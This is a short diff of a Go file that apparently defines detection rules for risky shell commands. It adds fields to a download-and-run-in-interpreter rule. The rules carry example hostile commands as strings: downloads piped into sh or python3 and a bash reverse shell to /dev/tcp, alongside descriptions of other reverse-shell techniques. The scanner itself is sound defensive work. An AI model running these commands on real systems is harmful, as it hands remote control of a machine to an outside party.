@@ -41,7 +41,7 @@ func netRules() []builtin {
 			Example:     "fetch -o - https://example.com/install.sh | sh"}, check: netPipeCheck(ruleDownloadPipeShell), progs: netPipeProgs},
 		{Rule: Rule{Name: ruleDownloadPipeInterp, Level: High,
 			Description: "downloads a program and runs it in python, perl, ruby, node, php or lua without showing it first",
-			Example:     "curl -s https://example.com/get.py | python3"}, check: netInterpPipe},
+			Example:     "curl -s https://example.com/get.py | python3"}, check: netInterpPipe, progs: interpProgs, prefixes: interpPrefixes},
 		{Rule: Rule{Name: ruleReverseShell, Level: High,
 			Description: "gives a remote machine a shell: nc/ncat -e or --sh-exec, socat exec:, a shell wired to /dev/tcp or to a socket descriptor, a shell between network pipes (telnet, nc, mkfifo), interpreter one-liners that connect a socket to a shell",
 			Example:     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, check: netReverseShell},
